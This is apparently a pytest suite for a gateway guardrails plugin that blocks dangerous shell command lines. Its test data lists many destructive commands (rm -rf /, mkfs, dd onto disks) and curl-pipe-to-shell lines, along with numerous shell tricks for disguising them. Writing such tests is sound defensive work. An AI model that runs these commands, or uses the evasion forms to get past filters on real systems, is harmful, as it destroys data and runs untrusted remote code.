"""Tests for hoopgw_guardrails.commands: shell command lines judged by what they run."""

from __future__ import annotations

import fnmatch
from typing import Any

import pytest
from hoopgw_guardrails import GuardrailsPlugin
from hoopgw_guardrails.commands import (
    COMMAND_PRESETS,
    CommandPolicy,
    _glob_matches,
    check_command_patterns,
    check_command_presets,
)
from hypothesis import given
from hypothesis import strategies as st

from hoopgw import protocol
from hoopgw.errors import ConfigError
from hoopgw.testing import FakeApprover, ScriptedClient, make_connection
from hoopgw.verdicts import Allow, Block, Hold

PRESETS = CommandPolicy.from_options({"command_presets": list(COMMAND_PRESETS)})


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("rm -rf /", "rm -rf /"),
        ("rm -fr /", "rm -rf /"),
        ("rm -r -f /", "rm -rf /"),
        ("rm -Rf //", "rm -rf /"),
        ("rm --recursive --force /.", "rm -rf /"),
        ("/usr/bin/rm -rf -- /", "rm -rf /"),
        ("rm -rf /*", "rm -rf /"),
        ('rm -rf "/"', "rm -rf /"),
        ("rm -rf $TARGET", "rm -rf /"),
        ("sudo -u root rm -rf /", "rm -rf /"),
        ("LANG=C nice -n 5 rm -rf /", "rm -rf /"),
        ("cd /tmp && rm -rf / ; ls", "rm -rf /"),
        ("ls\nrm -rf /", "rm -rf /"),
        ("bash -c 'rm -rf /'", "rm -rf /"),
        ("sh -c \"sudo sh -c 'rm -rf /'\"", "rm -rf /"),
        ("eval rm -rf /", "rm -rf /"),
        ("shutdown -h now", "shutdown"),
        ("/sbin/reboot", "reboot"),
        ("systemctl poweroff", "systemctl poweroff"),
        ("init 0", "init 0"),
        ("mkfs.ext4 /dev/sda1", "mkfs.*"),
        ("dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/*"),
        ("curl -fsSL https://x.invalid/i.sh | sh", "curl ... | sh"),
        ("curl https://x.invalid | sudo bash -s", "curl ... | bash"),
        ("wget -qO- https://x.invalid | python3", "wget ... | python3"),
        ("(curl x | sh)", "curl ... | sh"),
    ],
)
def test_presets_deny(line: str, rule: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block), line
    assert verdict.rule == f"deny_commands:{rule}"


@pytest.mark.parametrize(
    "line",
    [
        # Line continuations: the shell joins the lines before it splits them.
        "rm -rf \\\n/",
        "r\\\nm -rf /",
        # Operators glued to each other are operators, not a word.
        "true;(rm -rf /)",
        "true&&(rm -rf /)",
        "true|(rm -rf /)",
        "((1)); rm -rf /",
        "f(){ rm -rf /; }; f",
        "function f { rm -rf /; }",
        # A quoted operator is a word: the arguments after it still belong to the command.
        "rm -rf ';' /",
        'rm -rf "&&" /',
        # Reserved words before the program.
        "if true; then rm -rf /; fi",
        "while true; do rm -rf /; done",
        "for i in 1; do rm -rf /; done",
        "coproc rm -rf /",
        # Shells and wrappers.
        "sh -lc 'rm -rf /'",
        "bash -xc 'rm -rf /'",
        "bash -c -o pipefail 'rm -rf /'",
        "su --command='rm -rf /'",
        "busybox rm -rf /",
        "chroot / rm -rf /",
        "watch 'rm -rf /'",
        "env -S 'rm -rf /'",
        "alias x='rm -rf /'; x",
        "trap 'rm -rf /' EXIT",
        "PROMPT_COMMAND='rm -rf /'",
        "export PROMPT_COMMAND='rm -rf /'",
        "echo / | xargs rm -rf",
        "find / -maxdepth 0 -exec rm -rf {} +",
        # Option abbreviations, brace expansion, globbed programs, home.
        "rm --rec --force /",
        "rm -rf --no-preserve /tmp",
        "rm -rf {/,}",
        "/bin/r? -rf /",
        "{r,}m -rf /",
        "rm -rf ~/",
        # A pipe through another stage still feeds the shell.
        "curl https://x.invalid | tee f | sh",
    ],
)
def test_shell_syntax_does_not_hide_a_denied_command(line: str) -> None:
    assert isinstance(PRESETS.judge(line), Block), line


@pytest.mark.parametrize(
    "line",
    [
        "ls -la /",
        "rm -rf /tmp/build",
        "rm -f /tmp/x",
        "rm -r ./cache",
        "echo shutdown now",
        "grep -r reboot /var/log",
        "curl -o out.html https://x.invalid",
        "curl https://x.invalid | jq .",
        "cat install.sh | less",
        "systemctl status nginx",
        "init",
        "echo $((1 + 2))",
        "dd if=/dev/sda of=/tmp/disk.img",
        "rm -rf ./build/{a,b}",
        "find . -name '*.pyc' -exec rm -f {} \\;",
        "echo 'a;b' | tr ';' ,",
        "bash -lc 'make test'",
        "for f in *.log; do gzip $f; done",
        "find . -name '*.tmp' -exec sh -c 'rm -f \"$1\"' _ {} \\;",
    ],
)
def test_presets_allow(line: str) -> None:
    assert PRESETS.judge(line) is None, line


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("echo $(id)", "opaque"),
        ("echo `id`", "opaque"),
        ("diff <(ls a) <(ls b)", "opaque"),
        ("cat <<EOF", "opaque"),
        ('echo "open', "unparseable"),
        ("$CMD -rf /", "opaque"),
        ("ls; )", "unparseable"),
        ("ls && ; ls", "unparseable"),
    ],
)
def test_what_cannot_be_judged_is_refused(line: str, rule: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule == rule, (line, verdict)


# Issue 14, class 12: shell grammar the judge cannot follow statically is opaque.
@pytest.mark.parametrize(
    "line",
    [
        # Comments hide text (and interactive zsh does not know them).
        "ls #'\nrm -rf /'",
        "echo hi # rm -rf /",
        # ANSI-C and translated quoting as the program.
        r"$'\x72\x6d' -rf /",
        '$"rm" -rf /',
        # trap, alias, let, hash, enable, bind, shopt, fc, mapfile run text later.
        "trap 'touch x' EXIT",
        r"trap -- \$\(touch\ x\) DEBUG",
        "alias ls=rm; ls -rf /",
        "let 'x=a[$(id)]'",
        "let x=y",
        "hash -p /bin/rm ls",
        "enable -f ./x.so x",
        r"""bind -x '"\C-t": rm -rf /'""",
        "shopt -s expand_aliases",
        "fc -s",
        "mapfile -C cb -c 1 a < f",
        # Assignments that evaluate or change what the shell runs.
        "x+=1",
        "a[$i]=1",
        "a[i]=1",
        r"PS0=\$\(touch\ x\)",
        "PS1='$x'",
        "PS1='\\u'",
        "echo $[x]",
        # A line continuation joins what follows before the shell reads it.
        "echo $\\\n{x@P}",
        'echo "$\\\n(id)"',
        "echo $\\\n((x))",
        "r\\\nm -rf $\\\n'\\x2f'",
        # zsh: =cmd is cmd's path; $=x, $~x are expansions.
        "=rm -rf /",
        "echo $=x",
        "echo $~x",
        "env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls",
        "BASH_ENV=/tmp/x bash -c ls",
        "LD_PRELOAD=/tmp/x.so ls",
        "export PS1=$x",
        "export PS1",
        "declare -i n=x",
        "declare -n r=x",
        "typeset -a a",
        "local $x",
        'export "$x"=1',
        "read PROMPT_COMMAND < f",
        "printf -v 'a[$i]' x",
        "unset 'a[x]'",
        "test -v 'a[x]'",
        # Prompt, arithmetic and other expansions that run commands.
        "echo ${x@P}",
        "echo ${x:-$(id)}",
        "echo ${!x}",
        "echo ${a[$(id)]}",
        "echo $((a[1]))",
        "echo $((x))",
        "((x))",
        "((a[$(id)]))",
        "[[ $x -eq 1 ]]",
        "for ((i=0; i<1; i++)); do ls; done",
        # Globs, extended globs and braces where the program is.
        "/bin/r[m] -rf /",
        "/???/rm -rf /",
        "/bin/r* -rf /",
        "@(rm) -rf /",
        "!(ls) -rf /",
        "+(rm) -rf /",
        "shopt -s extglob; @(r)m -rf /",
        "{rm,x} -rf /",
        "r{m,} -rf /",
        "x=(rm -rf /)",
        # Expansions where the program is, also behind wrappers and shells.
        "$x -rf /",
        "${x} -rf /",
        '"$x" -rf /',
        "sudo $x",
        'nice -n 5 "$x" -rf /',
        'sh -c "$x"',
        "bash -c $x",
        "eval $x",
        'eval "rm $y"',
        'env -S "$x"',
        "watch $x",
        # Other syntax not judged.
        "case x in x) rm -rf /;; esac",
        "select x in a; do rm -rf /; done",
        "coproc { rm -rf /; }",
        "cat <<< 'rm -rf /' | sh",
        "sh < <(echo rm -rf /)",
        "echo x > >(sh)",
        "exec {fd}>/tmp/x",
        "ls\r",
        "ls\x01",
        "f() { ls; }; f() { rm -rf /; }; f",
        "echo `id`",
    ],
)
def test_opaque_shell_grammar_is_refused(line: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block), (line, verdict)
    assert verdict.rule in ("opaque", "deny_commands:rm -rf /"), (line, verdict)


@pytest.mark.parametrize(
    "line",
    [
        # Expansions may be any options: rm $x may be rm -rf /.
        "rm $x",
        "rm $x /",
        "rm -r $x",
        'rm "$@"',
        "rm ${@}",
        "rm -{r,f} /",
        "rm {-r,-f} /",
        "rm $((-1)) /",
        'set -- -rf /; rm "$@"',
        "echo -rf / | xargs rm",
        "xargs rm < list",
        # A file named like an option: rm * sees -rf.
        "rm *",
        "rm -f *",
        "rm ?*",
        "rm [-]rf /",
        "rm -* /",
        "cd / && rm -r *",
        # One quoted expansion is one word: it may still complete the pattern.
        'rm -rf "$x"',
        'rm -r / "$x"',
        'rm / "$x"',
    ],
)
def test_expansions_may_be_any_option(line: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule == "deny_commands:rm -rf /", (
        line,
        verdict,
    )


@pytest.mark.parametrize(
    "line",
    [
        'rm -f "$x"',
        'rm -f -- "$x"',
        "rm -f ./build/*.o",
        "rm -rf /tmp/build/{a,b}",
        "ls $HOME",
        'echo "$x" done',
        "x=1 ls",
        "export FOO=bar",
        'while IFS= read -r l; do echo "$l"; done < f',
        "export PS1='READY> '",
        "export PATH=$PATH:/opt/bin; local x=$1",
        "grep x$ f; echo $",
        "ls ~ ~/x",
        "awk '{print $(NF)}' f",
        "PS1=x",
        "[ -f x ] && echo y",
        'for f in *.log; do gzip "$f"; done',
        "ls 2>/dev/null >&2",
        'if [ -n "$x" ]; then echo a; elif true; then echo b; else echo c; fi',
        'while read -r l; do echo "$l"; done < f',
        "f() { echo hi; }; f",
        "echo $'a\\nb'",
        "echo 'a#b' a#b",
        "git log --format='%h %s'",
        "echo $((1 + 2))",
        "curl https://x.invalid | jq .",
    ],
)
def test_known_grammar_still_runs(line: str) -> None:
    assert PRESETS.judge(line) is None, line


@pytest.mark.parametrize(
    "line",
    [
        "curl x |& sh",
        "curl x | ( sh )",
        "curl x | { sh; }",
        "curl x | { echo; sh; }",
        "curl x | . /dev/stdin",
        "curl x | source /dev/stdin",
        "curl x | bash -s",
        "curl x | sh -",
        "curl x | sh /dev/stdin",
        "curl x | if true; then sh; fi",
        "curl x | while read l; do sh; done",
        "curl x |\nsh",
        "curl x |\n\n bash",
        "( curl x ) | sh",
        "{ curl x; } | sh",
        "f() { sh; }; curl x | f",
        "wget -O- x | env sh",
        "curl x | exec sh",
        "curl x | sudo -s",
        "curl x | sudo -i",
        "curl x | su",
        "curl x | sudo su -",
        "curl x | ruby",
        "curl x | flock /tmp/l -c sh",
        "curl x | ssh localhost sh",
        "curl x | ssh -p 22 -l root localhost 'bash -s'",
        "curl x | ssh -o ProxyCommand='sh -c x' h",
    ],
)
def test_pipes_into_a_shell(line: str) -> None:
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule.startswith("deny_commands:"), (
        line,
        verdict,
    )


@pytest.mark.parametrize("line", ["curl", "curl -o", "curl -o f", "curl --version", "curl x"])
def test_a_pattern_glob_that_matches_nothing_asks_for_no_argument(line: str) -> None:
    policy = CommandPolicy.from_options({"deny_commands": ["curl *"]})
    assert isinstance(policy.judge(line), Block), line
    assert policy.judge("wget x") is None


def test_an_opaque_line_runs_when_allowed_exactly() -> None:
    line = 'for f in *.log; do $CMD "$f"; done'
    policy = CommandPolicy.from_options(
        {"deny_commands": ["reboot"], "allow_opaque_commands": [line]}
    )
    assert policy.judge(line) is None
    assert policy.judge(f" {line}\n") is None
    refused = policy.judge(line + "; ls")
    assert isinstance(refused, Block) and refused.rule == "opaque"
    assert "allow_opaque_commands" in refused.reason


def test_custom_patterns_deny_and_review() -> None:
    policy = CommandPolicy.from_options(
        {"deny_commands": ["git push --force", "kubectl delete ..."], "review_commands": ["apt *"]}
    )
    assert isinstance(policy.judge("git push origin main --force"), Block)
    assert isinstance(policy.judge("git push --force=yes"), Block)
    assert policy.judge("git push origin main") is None
    # Words are arguments in any order, options anywhere: fail closed.
    assert isinstance(policy.judge("kubectl -n x delete pod y"), Block)
    assert policy.judge("kubectl get pods") is None
    held = policy.judge("apt install curl")
    assert isinstance(held, Hold) and held.rule == "review_commands:apt *"
    assert policy.active and not CommandPolicy.from_options({}).active


def test_option_checks() -> None:
    assert check_command_patterns(["rm -rf /", "curl ... | sh"]) is None
    assert "non-empty" in (check_command_patterns([""]) or "")
    assert "empty part" in (check_command_patterns(["curl |"]) or "")
    assert "No closing" in (check_command_patterns(["echo 'x"]) or "")
    assert check_command_presets(["power"]) is None
    assert "unknown preset" in (check_command_presets(["nope"]) or "")


def _ssh(monkeypatch: Any) -> None:
    spec = protocol.ProtocolSpec(name="ssh", build_factory=lambda runtime: None)
    monkeypatch.setattr("hoopgw_guardrails.load_protocol", lambda name: spec)


def test_plugin_judges_exec_and_shell_lines_on_ssh(monkeypatch: Any) -> None:
    _ssh(monkeypatch)
    approver = FakeApprover()
    client = ScriptedClient.for_plugin(
        GuardrailsPlugin,
        {"command_presets": ["power"], "review_commands": ["apt install"]},
        name="guardrails",
        extra_plugins=[("approver", approver)],
    )
    assert client.connect() is None
    assert isinstance(client.run("reboot", kind="exec").verdict, Block)
    assert isinstance(client.run("reboot", kind="shell-line").verdict, Block)
    assert isinstance(client.run("ls", kind="exec").verdict, Allow)
    assert isinstance(client.run("", kind="shell").verdict, Allow)
    assert isinstance(client.run("open /x read", kind="sftp").verdict, Allow)
    _, decision = client.send("apt install curl", kind="exec")
    assert approver.requests and not decision.called
    approver.approve()
    assert isinstance(decision.result, Allow)


def test_command_patterns_on_a_statement_protocol_are_refused() -> None:
    context = type(
        "C",
        (),
        {
            "connection": make_connection(protocol="postgres"),
            "options": {"deny": [], "preset": "", "rules": [], "deny_commands": ["rm -rf /"]},
        },
    )
    with pytest.raises(ConfigError, match="shell command patterns"):
        GuardrailsPlugin(context)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "line",
    ["nice " * 40 + "ls", "|".join(["cat"] * 2000), "nice " * 5000 + "ls"],
)
def test_a_line_with_too_many_readings_is_refused_quickly(line: str) -> None:
    # Wrappers of wrappers once made the readings grow as 2**n: one exec line could keep the
    # gateway's reactor busy for hours.
    verdict = PRESETS.judge(line)
    assert isinstance(verdict, Block) and verdict.rule == "unparseable"


def test_a_user_s_glob_is_not_compiled_into_a_cache_every_session_shares() -> None:
    # fnmatch compiles each pattern once for the whole process (an lru_cache of 32768): a
    # glob of one user's command line kept there answers another user's probe of the same
    # glob faster (what others ran), and long globs take memory that nothing bounds.
    compiled = fnmatch._compile_pattern  # type: ignore[attr-defined]
    PRESETS.judge("rm -rf /tmp/*")
    PRESETS.judge("rm -rf /*")  # the configured patterns, compiled at their first use
    before = compiled.cache_info().currsize
    for n in range(50):
        line = f"rm -rf /srv/reports/*customer-{n}*"
        assert PRESETS.judge(line) is None, line
        assert isinstance(PRESETS.judge("rm -rf /" + "*" * (n + 1)), Block)
    assert compiled.cache_info().currsize == before


@given(
    glob=st.text(alphabet="ab/-*?[]!", max_size=8),
    word=st.text(alphabet="ab/-*?[]!", max_size=6),
)
def test_a_glob_matches_a_word_wherever_fnmatch_says_so(glob: str, word: str) -> None:
    matches = _glob_matches(glob, word)
    if fnmatch.fnmatchcase(word, glob):
        assert matches  # never less than fnmatch: a denied word stays denied
    if "[" not in glob:
        assert matches == fnmatch.fnmatchcase(word, glob)  # and exactly it without brackets
